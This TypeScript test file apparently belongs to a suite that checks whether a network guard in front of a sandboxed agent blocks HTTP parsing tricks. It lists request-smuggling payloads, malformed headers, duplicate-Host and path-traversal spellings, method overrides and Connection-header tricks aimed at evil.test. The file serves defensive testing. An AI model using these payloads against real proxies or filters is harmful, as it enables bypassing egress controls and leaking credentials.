// Attempts 41 to 47: requests that two readers take apart differently.
// What reaches an allowed host may not hold a second request, a host of its own, or what told the guard who asks.

import type { Attempt, Variant } from '../attempt.ts';
import {
  authority,
  hidden,
  inTunnel,
  modelPaths,
  modelRequest,
  noTools,
  raw,
  requestPaths,
  requestTo,
  tunnelPaths,
  tunnelTo,
} from './exchanges.ts';

const group = 'HTTP parsing';

/** A body that ends for one reader where the hidden request begins. What reaches the allowed host may not hold a request of its own. */
const framed = (name: string, fields: string, body: (mark: string) => string): Variant => ({
  name,
  does: (mark) => ({
    parts: [`POST http://allowed.test/framed HTTP/1.1\r\nHost: kit\r\n${authority}${fields}\r\n${body(mark)}`],
    patienceMs: 1_500,
  }),
  leaked: ({ at, text }, mark) => at === '11.0.0.66' || at === 'evil.test' || new RegExp(`(?:GET|POST)[^\\r]*${mark}`).test(text),
});

const framings: readonly Variant[] = [
  framed('a length and chunks', 'Content-Length: 6\r\nTransfer-Encoding: chunked\r\n', (mark) => `0\r\n\r\n${hidden(mark)}`),
  framed('chunks and a length', 'Transfer-Encoding: chunked\r\nContent-Length: 6\r\n', (mark) => `0\r\n\r\n${hidden(mark)}`),
  framed('two lengths', 'Content-Length: 0\r\nContent-Length: 44\r\n', hidden),
  framed('two lengths in one field', 'Content-Length: 0, 44\r\n', hidden),
  framed('a coding that nobody knows', 'Transfer-Encoding: xchunked\r\n', (mark) => `0\r\n\r\n${hidden(mark)}`),
  framed('a coding behind another', 'Transfer-Encoding: chunked, identity\r\n', (mark) => `0\r\n\r\n${hidden(mark)}`),
  framed('a coding with a space before the colon', 'Transfer-Encoding : chunked\r\n', (mark) => `0\r\n\r\n${hidden(mark)}`),
  framed('a coding with a control character', 'Transfer-Encoding: \x0bchunked\r\n', (mark) => `0\r\n\r\n${hidden(mark)}`),
  framed('a length with a sign', 'Content-Length: +0\r\n', hidden),
  framed('a length that is negative', 'Content-Length: -1\r\n', hidden),
];

const oddHeads: readonly Variant[] = [
  raw('bare line feeds', (mark) => `GET http://evil.test/${mark} HTTP/1.1\nHost: evil.test\n${authority}\n`),
  raw('a folded field', (mark) => `GET http://evil.test/${mark} HTTP/1.1\r\nHost: allowed.test\r\n evil.test\r\n${authority}\r\n`),
  raw('a version that there is not', (mark) => requestTo(`http://evil.test/${mark}`).replace('HTTP/1.1', 'HTTP/1.9')),
  raw('no version', (mark) => `GET http://evil.test/${mark}\r\n\r\n`),
  raw('a space in the name of a field', (mark) => requestTo(`http://evil.test/${mark}`, 'X Host: allowed.test\r\n')),
  raw('a field without a colon', (mark) => requestTo(`http://evil.test/${mark}`, 'allowed.test\r\n')),
  raw('a NUL in a field', (mark) => requestTo(`http://evil.test/${mark}`, 'X: a\0b\r\n')),
  raw('a carriage return in a field', (mark) => requestTo(`http://evil.test/${mark}`, 'X: a\rHost: allowed.test\r\n')),
];

export const http: readonly Attempt[] = [
  {
    id: '41',
    group,
    what: 'two ends of one body: Content-Length against Transfer-Encoding, twice, unknown',
    ways: [
      { paths: requestPaths, expected: 'deny', variants: framings },
      {
        paths: modelPaths,
        expected: 'deny',
        variants: [
          'Content-Length: 6\r\nTransfer-Encoding: chunked\r\n',
          'Transfer-Encoding: xchunked\r\n',
          'Content-Length: 0\r\nContent-Length: 40\r\n',
        ].map((fields) => ({
          name: fields.trim().replaceAll('\r\n', ', '),
          does: (mark) => ({
            parts: [
              `POST /anthropic/v1/messages HTTP/1.1\r\nHost: 127.0.0.1:7420\r\nx-api-key: %%CREDENTIAL%%\r\n${fields}\r\n0\r\n\r\nPOST /anthropic/v1/messages HTTP/1.1\r\nHost: ${mark}\r\n\r\n`,
            ],
            patienceMs: 1_500,
          }),
        })),
      },
      noTools,
    ],
  },
  {
    id: '42',
    group,
    what: 'heads that some readers forgive: bare line feeds, folded fields, odd versions and names',
    ways: [
      { paths: requestPaths, expected: 'deny', variants: oddHeads },
      {
        paths: tunnelPaths,
        expected: 'deny',
        variants: [
          raw('bare line feeds', () => `CONNECT evil.test:443 HTTP/1.1\nHost: evil.test\n${authority}\n`),
          raw('a version that there is not', () => tunnelTo('evil.test:443').replace('HTTP/1.1', 'HTTP/3.0')),
          raw('a folded field', () => tunnelTo('evil.test:443', 'Host: a\r\n allowed.test:443\r\n')),
        ],
      },
      noTools,
    ],
  },
  {
    id: '43',
    group,
    what: 'chunks: a size that overflows, endless extensions, trailers that name a host',
    ways: [
      {
        paths: requestPaths,
        expected: 'deny',
        variants: [
          framed('a size that overflows', 'Transfer-Encoding: chunked\r\n', (mark) => `ffffffffffffffff0\r\n${mark}\r\n0\r\n\r\n`),
          framed('a negative size', 'Transfer-Encoding: chunked\r\n', (mark) => `-1\r\n\r\n${hidden(mark)}`),
          framed('a size in another base', 'Transfer-Encoding: chunked\r\n', (mark) => `0x0\r\n\r\n${hidden(mark)}`),
          framed(
            'extensions without end',
            'Transfer-Encoding: chunked\r\n',
            (mark) => `1;${'x'.repeat(40_000)}\r\na\r\n0\r\n\r\n${hidden(mark)}`,
          ),
          {
            name: 'a trailer that names a host',
            does: (mark) => ({
              parts: [
                `POST http://allowed.test/trailer HTTP/1.1\r\nHost: kit\r\n${authority}Trailer: Host\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nHost: ${mark}.evil.test\r\n\r\n`,
              ],
              patienceMs: 1_500,
            }),
          },
        ],
      },
      noTools,
    ],
  },
  {
    id: '44',
    group,
    what: 'two hosts in one request: the field twice, the target and the field',
    ways: [
      {
        paths: requestPaths,
        expected: 'deny',
        variants: [
          raw('the field twice', (mark) => requestTo('http://allowed.test/', `Host: ${mark}.evil.test\r\n`)),
          raw('the target and the field', (mark) => requestTo('http://allowed.test/', '', 'GET', `${mark}.evil.test`)),
          raw('the other way round', (mark) => requestTo(`http://evil.test/${mark}`, '', 'GET', 'allowed.test')),
          raw('only the field', (mark) => requestTo(`/${mark}`, '', 'GET', 'allowed.test')),
        ],
      },
      {
        paths: tunnelPaths,
        expected: 'deny',
        variants: [raw('the field names an allowed host', () => tunnelTo('evil.test:443').replace('Host: kit', 'Host: allowed.test:443'))],
      },
      noTools,
    ],
  },
  {
    id: '45',
    group,
    what: 'paths in other spellings: encoded, doubled, climbing, cut by a NUL',
    ways: [
      { paths: ['forward'], expected: 'not applicable', missing: 'path rules' },
      {
        paths: modelPaths,
        expected: 'deny',
        variants: [
          '/anthropic/v1/messages/../files',
          '/anthropic/v1/messages/%2e%2e/files',
          '/anthropic//v1/messages/batches',
          '/anthropic/v1/messages%2fbatches',
          '/anthropic/v1/files/..;/messages',
          '/anthropic/v1/%66iles',
          '/anthropic/v1/messages%00',
          '/anthropic/v1/messages\\..\\files',
          '/anthropic/v1/%c0%ae%c0%ae/files',
          '/ANTHROPIC/v1/files',
          'http://10.0.0.20:8080/v1/messages',
        ].map((path) => ({
          name: path,
          does: (mark) => ({
            parts: [modelRequest(`{"model":"kit-1","max_tokens":1,"messages":[{"role":"user","content":"${mark}"}]}`, path)],
          }),
        })),
      },
      noTools,
    ],
  },
  {
    id: '46',
    group,
    what: 'methods: overridden by a field, in lower case, TRACE, a proxy within a tunnel',
    ways: [
      {
        paths: requestPaths,
        expected: 'deny',
        variants: [
          raw('TRACE', (mark) => requestTo(`http://allowed.test/${mark}`, '', 'TRACE')),
          raw('lower case', (mark) => requestTo(`http://allowed.test/${mark}`, '', 'get')),
          raw('a word that is none', (mark) => requestTo(`http://allowed.test/${mark}`, '', 'STEAL')),
          raw('overridden by a field', (mark) => requestTo(`http://evil.test/${mark}`, 'X-HTTP-Method-Override: CONNECT\r\n')),
          raw('CONNECT in absolute form', (mark) => requestTo(`http://evil.test:443/${mark}`, '', 'CONNECT')),
        ],
      },
      {
        paths: tunnelPaths,
        expected: 'deny',
        variants: [
          { name: 'a proxy within a tunnel', does: inTunnel((mark) => [`CONNECT evil.test:443 HTTP/1.1\r\nHost: ${mark}\r\n\r\n`]) },
        ],
      },
      noTools,
    ],
  },
  {
    id: '47',
    group,
    what: 'the Connection field names what the guard reads or adds',
    ways: [
      {
        paths: requestPaths,
        expected: 'deny',
        variants: [
          {
            name: 'what tells who asks',
            does: (mark) => ({ parts: [requestTo(`http://evil.test/${mark}`, 'Connection: proxy-authorization, host\r\n')] }),
          },
          {
            name: 'what tells who asks, at an allowed host',
            does: (mark) => ({ parts: [requestTo(`http://allowed.test/${mark}`, 'Connection: x, proxy-authorization\r\n')] }),
            leaked: ({ text }) => /proxy-authorization|Basic a2l0O/i.test(text),
          },
        ],
      },
      {
        paths: modelPaths,
        expected: 'deny',
        variants: [
          {
            name: 'what tells who asks',
            does: (mark) => ({
              parts: [
                modelRequest(
                  `{"model":"other-1","max_tokens":1,"messages":[{"role":"user","content":"${mark}"}]}`,
                  '/anthropic/v1/messages',
                  'x-api-key: %%CREDENTIAL%%\r\nconnection: x-api-key\r\n',
                ),
              ],
            }),
          },
        ],
      },
      noTools,
    ],
  },
];
